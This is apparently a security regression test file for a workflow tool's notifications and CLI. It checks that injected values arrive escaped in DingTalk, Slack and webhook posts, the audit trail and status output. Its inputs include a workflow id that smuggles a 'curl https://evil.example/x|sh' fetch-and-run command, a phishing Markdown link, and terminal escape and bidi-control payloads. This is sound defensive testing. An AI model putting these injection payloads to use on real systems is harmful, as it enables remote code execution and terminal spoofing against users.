// Issue 29, item 4 "Injection and leaks", findings 1 and 2 on the dev server: a starter chooses a phishing
// requester name and a workflow id with shell syntax; a signal sender puts terminal escapes in "by". The posts a
// local DingTalk/Slack/webhook receiver gets show them as text and copy no command built from them; the audit
// trail stores them escaped; `kdr status` (plain and --json) writes no control character to the terminal.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { runEventActivities } from '../../../activities/run-events';
import type { ActivityDeps } from '../../../activities';
import { approvalActivities } from '../../../activities/approvals';
import { PairConfigSchema, validate, type PairConfig } from '../../../src/config';
import { runCli } from '../../../app/cli/program';
import { ExitCode } from '../../../app/cli/errors';
import { local } from '../../../stack/local-stack';
import { approveSignal, planQuery, resolveSignal, statusQuery } from '../../../workflows/definitions';
import { createControl, createFixtureActivities } from '../../helpers/fixtures/activities';
import type { approvalFixture } from '../../helpers/fixtures/workflows';
import type { notifyFixture } from '../notify/fixtures/workflows';
import { startReceiver, type Receiver } from '../notify/receiver';
import { kafkaPair } from '../../../stack/harness/kdr';
import {
  closeTemporal,
  eventually,
  temporal,
  uniqueName,
  withWorker,
  workflowBundle,
} from '../../../stack/harness/temporal';

const SECRET = `SEC${'a11ce'.repeat(10)}`;
const PHISH = 'mallory [click here to approve](http://evil.example/login)';
/** Any control character a terminal would act on: C0 but newline, DEL, C1, bidi controls. */
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('findings 1 and 2 on the dev server', () => {
  let receiver: Receiver;
  before(async () => {
    receiver = await startReceiver(SECRET);
    await temporal();
    await workflowBundle(require.resolve('../notify/fixtures/workflows'));
    await workflowBundle(require.resolve('../../helpers/fixtures/workflows'));
  });
  after(async () => {
    await receiver?.close();
    await closeTemporal();
  });

  test('finding 1: a phishing requester and a workflow id with shell syntax reach DingTalk, Slack and a webhook as text; no command carries them', async () => {
    const pair = uniqueName('inj');
    const parsed = validate(PairConfigSchema, {
      ...kafkaPair(pair, ['t']),
      notify: [
        { type: 'dingtalk', urlEnv: 'KDR_SECRET_DT_URL', secretEnv: 'KDR_SECRET_DT_SIGN' },
        { type: 'slack', urlEnv: 'KDR_SECRET_SLACK_URL' },
        { type: 'webhook', urlEnv: 'KDR_SECRET_HOOK_URL' },
      ],
    });
    assert.ok(parsed.ok, parsed.ok ? '' : parsed.message);
    const deps = {
      env: {
        KDR_NOTIFY_BACKOFF_MS: '50',
        KDR_SECRET_DT_URL: `${receiver.url}/robot/send?access_token=t`,
        KDR_SECRET_DT_SIGN: SECRET,
        KDR_SECRET_SLACK_URL: `${receiver.url}/slack/${pair}`,
        KDR_SECRET_HOOK_URL: `${receiver.url}/hook/${pair}`,
      },
      pairs: () => new Map<string, PairConfig>([[pair, parsed.value]]),
    };
    const control = createControl({ apply: 2 });
    const activities = { ...createFixtureActivities(control), ...runEventActivities(deps as unknown as ActivityDeps) };
    const workflowId = `${uniqueName('inj')}\`; curl https://evil.example/x|sh; echo `;
    const mine = () =>
      receiver.received.filter(
        (r) => r.path.endsWith(pair) || (r.path === '/robot/send' && JSON.stringify(r.body).includes(pair)),
      );
    await withWorker(
      { workflowsPath: require.resolve('../notify/fixtures/workflows'), activities },
      async ({ client, taskQueue }) => {
        const handle = await client.workflow.start<typeof notifyFixture>('notifyFixture', {
          taskQueue,
          workflowId,
          args: [{ pair, requestedBy: PHISH }],
        });
        await eventually(
          async () => mine().length,
          (n) => n >= 3,
          'three approval-needed posts',
        );
        const { planId } = (await handle.query(planQuery))!;
        await handle.signal(approveSignal, { by: 'bob', planId });
        await eventually(
          async () => mine().filter((r) => JSON.stringify(r.body).includes('blocked at apply')).length,
          (n) => n >= 3,
          'three step-blocked posts',
        );
        control.failures.set('apply', 0);
        await handle.signal(resolveSignal, { action: 'retry', by: 'carol' });
        await handle.result();
      },
    );
    const ding = mine()
      .filter((r) => r.path === '/robot/send')
      .map((r) => (r.body as { markdown: { text: string } }).markdown.text);
    const slack = mine()
      .filter((r) => r.path.startsWith('/slack/'))
      .map((r) => (r.body as { text: string }).text);
    const hooks = mine()
      .filter((r) => r.path.startsWith('/hook/'))
      .map((r) => r.body as { kind: string; commands: string[] });
    assert.ok(
      ding.length >= 3 && slack.length >= 3 && hooks.length >= 3,
      `posts: ${ding.length} DingTalk, ${slack.length} Slack, ${hooks.length} webhook`,
    );
    const approval = ding.find((t) => t.includes('needs approval'))!;
    assert.ok(
      approval.includes('requested by mallory \\[click here to approve\\]\\(http\\://evil.example/login\\)'),
      approval,
    );
    for (const text of ding)
      assert.doesNotMatch(text, /(?<!\\)\[click here to approve(?<!\\)\]\(/, 'no Markdown link in a DingTalk post');
    for (const text of slack) {
      assert.doesNotMatch(text, /<http:\/\/evil/, 'no Slack link');
      assert.doesNotMatch(text, /(?<!&lt;)<you>/, "kdr's own placeholders escaped for Slack");
    }
    // Every command people may copy: fixed words, placeholders and safe names, never the starter's workflow id.
    for (const h of hooks) {
      for (const c of h.commands) {
        assert.doesNotMatch(c, /[`;|$]|curl|evil/, `${h.kind}: ${c}`);
      }
    }
    const blocked = hooks.find((h) => h.kind === 'step-blocked')!;
    assert.ok(
      blocked.commands.includes('kdr resolve <workflow id> retry --by <you> --step apply   # after fixing the cause'),
      blocked.commands.join('\n'),
    );
    const blockedDing = ding.find((t) => t.includes('blocked at apply'))!;
    assert.match(
      blockedDing,
      /The workflow id in the commands below is a placeholder: the real one contains characters a shell or chat would interpret; copy it from the Temporal UI\./,
    );
    assert.match(blockedDing, /`kdr resolve <workflow id> retry --by <you> --step apply   # after fixing the cause`/);
  });

  test('finding 2: a refused approval with terminal escapes in "by" is stored escaped; kdr status writes no control character', async () => {
    const attack = `\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202emallory${'x'.repeat(400)}`;
    await withWorker(
      {
        workflowsPath: require.resolve('../../helpers/fixtures/workflows'),
        activities: { ...createFixtureActivities(createControl()), ...approvalActivities() },
      },
      async ({ client, taskQueue }) => {
        const h = await client.workflow.start<typeof approvalFixture>('approvalFixture', {
          taskQueue,
          workflowId: uniqueName('esc'),
          args: [{ pair: uniqueName('pair'), requestedBy: 'alice' }],
        });
        await eventually(
          () => h.query(statusQuery),
          (s) => s.phase === 'awaiting-approval',
          'the approval wait',
        );
        const { planId } = (await h.query(planQuery))!;
        // Not a valid name: the payload is refused and recorded as it came, which is where escapes could get in.
        await h.signal(approveSignal, { by: attack, planId, comment: `ok${attack}` } as never);
        await h.signal(resolveSignal, { action: 'retry', by: attack, note: attack } as never);
        const s = await eventually(
          () => h.query(statusQuery),
          (x) => x.audit.length >= 2,
          'both refusals audited',
        );
        for (const a of s.audit) {
          assert.equal(a.accepted, false);
          for (const [k, v] of Object.entries(a))
            if (typeof v === 'string') assert.doesNotMatch(v, ACTIVE, `audit ${k}: ${JSON.stringify(v)}`);
          assert.ok(a.by.length <= 128, `by capped (${a.by.length})`);
          assert.ok(a.by.startsWith('\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m\\u202emallory'), a.by);
        }
        for (const args of [
          ['status', h.workflowId],
          ['status', h.workflowId, '--json'],
        ]) {
          const out: string[] = [];
          const err: string[] = [];
          const code = await runCli(args, {
            out: (t) => out.push(t),
            err: (t) => err.push(t),
            env: { ...process.env, TEMPORAL_ADDRESS: local.temporalAddress, KDR_TASK_QUEUE: taskQueue },
            isTTY: false,
          });
          assert.equal(code, ExitCode.waiting, `exit 5: the run waits for a human; ${err.join('\n')}`);
          const text = out.join('\n');
          assert.doesNotMatch(text, ACTIVE, `kdr ${args.join(' ')}`);
          assert.match(text, /mallory/, `kdr ${args.join(' ')} shows the refusal`);
          if (args.includes('--json'))
            assert.ok((JSON.parse(text) as { status: { audit: unknown[] } }).status.audit.length >= 2);
        }
        await h.signal(approveSignal, { by: 'bob', planId });
        assert.equal((await h.result()).applied, true);
      },
    );
  });
});
